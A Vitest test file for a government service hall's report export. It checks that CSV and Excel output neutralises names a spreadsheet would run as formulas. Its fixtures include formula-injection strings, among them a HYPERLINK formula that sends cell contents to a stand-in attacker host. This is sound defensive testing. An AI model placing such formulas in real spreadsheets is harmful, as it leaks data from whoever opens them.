import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { Report, ReportRow } from './definitions';
import { reportCsv, reportWorkbook, type ReportLabels } from './export';

const ZEROS: Omit<ReportRow, 'key'> = {
  issued: 0, called: 0, served: 0, noShows: 0, voided: 0, unserved: 0, transferred: 0, referred: 0, pauses: 0, pausedS: 0, rated: 0, verySatisfied: 0, satisfied: 0, basicallySatisfied: 0,
  dissatisfied: 0, veryDissatisfied: 0, badRatings: 0, defaultRatings: 0, secondRatings: 0, followUpsOpened: 0, followUpsClosed: 0, followUpsLate: 0, followUpsAppealed: 0,
  accepted: 0, corrections: 0, rejected: 0, consultations: 0, amended: 0, breaches: 0, lapsed: 0, complaints: 0, complaintsReplied: 0, complaintsRepliedLate: 0,
  complaintsEscalated: 0, complaintsClosed: 0, complaintsSatisfied: 0,
};
/** A row of counts, every one zero but the tickets issued. */
const row = (key: ReportRow['key'], issued: number): ReportRow => ({ ...ZEROS, key, issued });

// Names that a spreadsheet would run as formulas, as an administrator or a citizen might type them.
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '+86 12345', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '公安,户籍 "一科"\n二楼'];

function departmentReport(): Report {
  const rows = HOSTILE.map((department, i) => row({ department }, i + 1));
  // A negative figure is a number still, not text to guard (a correction that took back more than it counted).
  rows.push(row({ department: '出入境' }, -3));
  return { spec: { breakdown: 'department', from: '2026-11-25', to: '2026-11-30' }, waitTargetMinutes: 20, rows, total: row({}, 25), pauseReasons: [{ reason: '=1+1', pauses: 1, pausedS: 60 }] };
}

const labels: ReportLabels = { hallName: '某区政务服务中心', clerk: () => '=王建国', window: () => '-1号窗口', item: () => '@身份证' };

/** The cells a spreadsheet program reads from CSV text (ExcelJS's reader, with its conversion of numbers left off for text). */
async function openCsv(text: string): Promise<unknown[][]> {
  const book = new ExcelJS.Workbook();
  const sheet = await book.csv.read(Readable.from([text.replace(/^\uFEFF/, '')]), { parserOptions: { delimiter: ',' } } as never);
  const rows: unknown[][] = [];
  sheet.eachRow((r) => rows.push((r.values as unknown[]).slice(1)));
  return rows;
}

describe('a report written as CSV', () => {
  it('puts a quote before every text cell a spreadsheet would open as a formula, and keeps numbers as numbers', async () => {
    const text = reportCsv(departmentReport(), labels);
    expect(text.startsWith('\uFEFF部门,取号数')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const cells = await openCsv(text);
    expect(cells[0]!.slice(0, 2)).toEqual(['部门', '取号数']);
    expect(cells.slice(1, 1 + HOSTILE.length).map((r) => r[0])).toEqual(HOSTILE.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)));
    expect(cells.slice(1, 1 + HOSTILE.length).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => i + 1));
    expect(cells[1 + HOSTILE.length]).toEqual(expect.arrayContaining(['出入境', -3]));
    expect(cells.at(-1)!.slice(0, 2)).toEqual(['合计', 25]);
    expect(text).toContain('\r\n出入境,-3,');
  });
});

describe("the hall's report written as CSV", () => {
  it('holds its figures under the headers (an export asked for without a breakdown is the hall)', async () => {
    const hall: Report = { spec: { breakdown: 'hall', from: '2026-11-25', to: '2026-11-30' }, waitTargetMinutes: 20, rows: [row({}, 25)], total: { ...row({}, 25), waitMedianS: 330 }, pauseReasons: [] };
    const cells = await openCsv(reportCsv(hall, labels));
    expect(cells).toHaveLength(2);
    expect(cells[0]!.slice(0, 2)).toEqual(['取号数', '叫号数']);
    expect(cells[1]![0]).toBe(25);
    expect(cells[1]).toContain('0:05:30');
  });
});

describe('a report written as an Excel workbook', () => {
  it('keeps a name beginning with = as text, never a formula', async () => {
    const report = departmentReport();
    const data = await reportWorkbook({ department: report, clerk: { ...report, spec: { ...report.spec, breakdown: 'clerk' }, rows: [row({ clerk: '1001' }, 1)] } }, labels);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data as unknown as ArrayBuffer);
    const texts: { value: unknown; type: ExcelJS.ValueType }[] = [];
    book.eachSheet((sheet) => sheet.eachRow((r) => r.eachCell((c) => void texts.push({ value: c.value, type: c.type }))));
    expect(texts.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    // A carriage return comes back a line feed (XML keeps no bare CR); the cell is text either way.
    for (const name of [...HOSTILE, '1001 =王建国', '=1+1']) expect(texts).toContainEqual({ value: name.replace(/\r/g, '\n'), type: ExcelJS.ValueType.String });
  });
});
